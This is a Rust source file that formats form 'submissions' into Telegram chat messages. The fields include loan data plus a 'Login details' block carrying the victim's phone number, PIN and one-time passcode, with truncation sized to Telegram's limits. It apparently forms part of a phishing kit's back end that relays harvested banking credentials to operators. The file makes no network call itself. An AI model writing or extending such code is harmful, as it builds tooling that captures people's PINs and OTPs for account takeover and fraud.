//! Rendering of a [`Submission`] into the text sent to the chat.

use std::fmt;

use serde_json::Value;

use super::escape::{escape, escape_text, ESCAPE_MARKER};
use super::Submission;

pub const HEADER: &str = "*New Order / Submission*";

/// Appended when a message had to be cut to fit the length bound.
pub const TRUNCATION_MARKER: &str = "…(truncated)";

/// Keys that get their own section and never appear under "Other".
const RECOGNIZED_KEYS: [&str; 5] = ["loanData", "submittedAt", "loginPhone", "loginPin", "otp"];

/// Rendered message text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormattedMessage(String);

impl FormattedMessage {
    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn into_string(self) -> String {
        self.0
    }

    /// Length in characters, the unit Telegram limits on.
    pub fn char_count(&self) -> usize {
        self.0.chars().count()
    }

    /// Cut the message down to at most `max_chars` characters.
    ///
    /// Whole lines are kept where possible and the result never ends in a
    /// dangling escape marker. Returns the message unchanged when it already
    /// fits, along with whether anything was cut.
    pub fn bounded(self, max_chars: usize) -> (Self, bool) {
        if self.char_count() <= max_chars {
            return (self, false);
        }

        let marker_len = TRUNCATION_MARKER.chars().count() + 1;
        if max_chars <= marker_len {
            let cut: String = TRUNCATION_MARKER.chars().take(max_chars).collect();
            return (Self(cut), true);
        }

        let budget = max_chars - marker_len;
        let end = self
            .0
            .char_indices()
            .nth(budget)
            .map(|(idx, _)| idx)
            .unwrap_or(self.0.len());
        let prefix = &self.0[..end];

        let mut kept = match prefix.rfind('\n') {
            Some(newline) if newline > 0 => prefix[..newline].to_string(),
            _ => prefix.to_string(),
        };
        while kept.ends_with(ESCAPE_MARKER) {
            kept.pop();
        }

        kept.push('\n');
        kept.push_str(TRUNCATION_MARKER);
        (Self(kept), true)
    }
}

impl fmt::Display for FormattedMessage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Render a submission. Never fails: optional fields that are missing or of
/// an unexpected shape are skipped.
pub fn format(submission: &Submission) -> FormattedMessage {
    let mut sections: Vec<String> = vec![HEADER.to_string()];

    if let Some(submitted_at) = submission.get("submittedAt") {
        sections.push(line("Time", Some(submitted_at)));
    }

    if let Some(Value::Object(loan)) = submission.get("loanData") {
        let mut block = vec!["*Loan details:*".to_string()];
        block.extend(loan.iter().map(|(key, value)| entry(key, value)));
        sections.push(block.join("\n"));
    }

    // PIN and OTP lines follow the phone even when they are absent themselves
    if let Some(phone) = submission.get("loginPhone") {
        sections.push(
            [
                "*Login details:*".to_string(),
                line("Phone", Some(phone)),
                line("PIN", submission.get("loginPin")),
                line("OTP", submission.get("otp")),
            ]
            .join("\n"),
        );
    }

    let extras: Vec<String> = submission
        .iter()
        .filter(|(key, _)| !RECOGNIZED_KEYS.contains(&key.as_str()))
        .map(|(key, value)| entry(key, value))
        .collect();
    if !extras.is_empty() {
        let mut block = vec!["*Other:*".to_string()];
        block.extend(extras);
        sections.push(block.join("\n"));
    }

    FormattedMessage(sections.join("\n\n"))
}

fn line(label: &str, value: Option<&Value>) -> String {
    format!("{}: {}", label, escape(value))
}

fn entry(key: &str, value: &Value) -> String {
    format!("{}: {}", escape_text(key), escape(Some(value)))
}
